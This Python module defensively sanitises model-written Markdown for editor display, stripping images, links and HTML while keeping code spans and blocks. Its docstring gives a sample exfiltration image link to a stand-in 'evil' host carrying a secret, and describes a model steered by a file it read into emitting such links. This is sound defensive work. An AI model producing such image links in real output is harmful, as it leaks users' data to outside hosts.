"""Model Markdown made safe to render in an editor: no remote images, raw HTML or link targets.

A hover or a shown answer that renders `![x](https://evil/?q=secret)` fetches that URL the moment the user looks
at it, so text a model wrote (perhaps steered by a file it read) could carry data out. `safe_markdown` keeps the
words: an image becomes its alt text, a link its text, an HTML tag disappears (the text between tags stays), an
autolink disappears. Code spans and code blocks stay byte for byte: nothing inside code is rendered.

Where the code is comes from a CommonMark parser (markdown-it-py), the same model editors render with; the result
is parsed again and, should anything renderable survive (sanitising can form new syntax: `<<b>img ...>`), it is
sanitised again, and at worst shown as one code block.
"""

from __future__ import annotations

import bisect
import functools
import re
from typing import TYPE_CHECKING, Any, Optional

if TYPE_CHECKING:
    from markdown_it.token import Token


@functools.cache
def _parser() -> Any:
    """markdown-it-py loads on first use: the server's start-up path stays light (docs/benchmarks.md, B1/B5)."""
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark")


@functools.cache
def _html() -> re.Pattern[str]:
    from markdown_it.common import html_re

    return re.compile(
        "|".join(
            (
                html_re.open_tag,
                html_re.close_tag,
                html_re.comment,
                html_re.processing,
                html_re.declaration,
                html_re.cdata,
            )
        )
    )


def normalizeReference(label: str) -> str:
    from markdown_it.common.utils import normalizeReference as normalize

    return str(normalize(label))


_CODE_BLOCKS = ("fence", "code_block")
_LEAF_BLOCKS = ("paragraph_open", "heading_open", "html_block", "hr")  # inline content scanned as one piece
_RENDERED = frozenset({"image", "link_open", "html_inline", "html_block"})
_PASSES = 3
_MAX_DEPTH = 8
_LINES = re.compile(r"[^\n]*\n|[^\n]+$")

_AUTOLINK = re.compile(r"<(?:[A-Za-z][A-Za-z0-9+.\-]{1,31}:[^<>\x00-\x20]*|[^\s<>@\\]+@[^\s<>@\\]+)>")
_REF_DEF = re.compile(r"^[ \t>]*(?:[-*+]\s+|\d+[.)]\s+)?\[((?:[^\[\]\\]|\\.)+)\]:")
_PUNCT = frozenset("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~")
_TAG_START = re.compile(r"<[A-Za-z/!?]")


def safe_markdown(text: str) -> str:
    text = text.replace("\r\n", "\n").replace("\r", "\n")
    for _ in range(_PASSES):
        text = _sanitize(text)
        if not _renders_anything(text):
            return text
    ticks = "`" * max(3, max((len(m) for m in re.findall(r"`+", text)), default=0) + 1)
    return f"{ticks}text\n{text}\n{ticks}"


def _renders_anything(text: str) -> bool:
    for token in _parser().parse(text):
        if token.type in _RENDERED or any(child.type in _RENDERED for child in token.children or ()):
            return True
    return False


def _sanitize(text: str) -> str:
    env: dict[str, Any] = {}
    tokens = _parser().parse(text, env)
    labels = set(env.get("references", {}))
    lines = _LINES.findall(text)  # the parser's lines: it splits on \n only (\r\n was made \n before)
    kinds: list[str | int] = ["line"] * len(
        lines
    )  # per line: "code", "line" (on its own) or the first line of its block
    for token in tokens:
        if token.map is None:
            continue
        start, end = token.map
        if token.type in _CODE_BLOCKS:
            kinds[start:end] = ["code"] * (end - start)
        elif token.type in _LEAF_BLOCKS:
            kinds[start:end] = [start] * (end - start)
    out: list[str] = []
    i, in_definition = 0, False
    while i < len(lines):
        kind = kinds[i]
        j = i + 1
        while j < len(lines) and kind != "line" and kinds[j] == kind:
            j += 1
        chunk = "".join(lines[i:j])
        if kind == "code":
            out.append(chunk)
        elif kind == "line" and (_is_definition(chunk, labels) or (in_definition and chunk.strip())):
            in_definition = True  # a link reference definition (its URL may be on the next lines): dropped
        else:
            out.append(_Inline(chunk, labels).run())
        in_definition = in_definition and kind == "line" and bool(chunk.strip())
        i = j
    return "".join(out)


def _is_definition(line: str, labels: set[str]) -> bool:
    m = _REF_DEF.match(line)
    return bool(m and normalizeReference(m.group(1)) in labels)


class _Inline:
    """One block's inline text with images, links and HTML taken out; code spans and escapes kept as they are.

    Closing backticks, brackets and parentheses are found up front, so any input takes linear time."""

    def __init__(self, text: str, labels: set[str], depth: int = 0) -> None:
        self.text, self.labels, self.depth = text, labels, depth
        self.runs: dict[int, list[int]] = {}  # backtick run width -> starts, to find a code span's closer
        for m in re.finditer(r"`+", text):
            self.runs.setdefault(m.end() - m.start(), []).append(m.start())
        self.brackets = self._pairs("[", "]", code=True)
        self.parens = self._pairs("(", ")", code=False)  # a link destination is not code: backticks are literal

    def _pairs(self, open_: str, close: str, code: bool) -> dict[int, int]:
        text, pairs, stack, j = self.text, {}, [], 0
        while j < len(text):
            ch = text[j]
            if ch == "\\":
                j += 2
                continue
            if code and ch == "`":
                j = self.code_span_end(j)
                continue
            if ch == open_:
                stack.append(j)
            elif ch == close and stack:
                pairs[stack.pop()] = j
            j += 1
        return pairs

    def code_span_end(self, i: int) -> int:
        """End of the code span opening at `i`, or of the backtick run alone when nothing closes it (literal)."""
        run = i
        while run < len(self.text) and self.text[run] == "`":
            run += 1
        width = run - i
        closers = self.runs.get(width, [])
        k = bisect.bisect_left(closers, run)
        return closers[k] + width if k < len(closers) else run

    def run(self) -> str:
        text, out = self.text, []
        i, n = 0, len(self.text)
        while i < n:
            ch = text[i]
            if ch == "\\" and i + 1 < n and text[i + 1] in _PUNCT:
                out.append(text[i : i + 2])
                i += 2
            elif ch == "`":
                end = self.code_span_end(i)
                out.append(text[i:end])
                i = end
            elif ch == "<":
                m = _AUTOLINK.match(text, i) or _html().match(text, i)
                if m:
                    i = m.end()
                else:
                    out.append("\\<" if _TAG_START.match(text, i) else "<")  # an unclosed tag must not open HTML
                    i += 1
            elif ch == "[" or (ch == "!" and text.startswith("[", i + 1)):
                start = i + 1 if ch == "!" else i
                link = self.link(start)
                if link is None:
                    out.append(text[i : start + 1])
                    i = start + 1
                else:
                    label, i = link
                    # Links nest only through images (`[![alt](img)](url)`): a deeper pile is not worth keeping.
                    out.append(_Inline(label, self.labels, self.depth + 1).run() if self.depth < _MAX_DEPTH else "")
            else:
                out.append(ch)
                i += 1
        return "".join(out)

    def link(self, i: int) -> Optional[tuple[str, int]]:
        """At `[`: (link text, end) for an inline, full, collapsed or shortcut reference link, else None."""
        text = self.text
        close = self.brackets.get(i)
        if close is None:
            return None
        label = text[i + 1 : close]
        after = close + 1
        if text.startswith("(", after):
            end = self.parens.get(after)
            return (label, end + 1) if end is not None else None
        ref_close = self.brackets.get(after)
        if ref_close is not None and normalizeReference(text[after + 1 : ref_close] or label) in self.labels:
            return label, ref_close + 1
        if normalizeReference(label) in self.labels:
            return label, after
        return None


def plain_text(markdown: str) -> str:
    """Markdown as readable plain text, for editors that show it raw (showMessage is plain text; eglot's echo
    area, hovers for clients that accept only plaintext): markers dropped, code kept as it is, paragraphs
    separated by blank lines. Render only what `safe_markdown` returned."""
    out: list[str] = []
    prefix: list[str] = []
    for tok in _parser().parse(markdown):
        if tok.type in _CODE_BLOCKS:
            out.append(tok.content.rstrip("\n"))
        elif tok.type == "inline":
            out.append("".join(prefix) + _inline_text(tok.children or []))
            prefix.clear()
        elif tok.type == "list_item_open":
            prefix.append(f"{tok.info}. " if tok.info else "- ")
        elif tok.type == "hr":
            out.append("---")
    return "\n\n".join(part for part in out if part.strip())


def _inline_text(children: list[Token]) -> str:
    parts: list[str] = []
    for child in children:
        if child.type in ("text", "code_inline", "html_inline"):
            parts.append(child.content)
        elif child.type in ("softbreak", "hardbreak"):
            parts.append("\n")
        elif child.type == "image":
            parts.append(_inline_text(child.children or []))
    return "".join(parts)
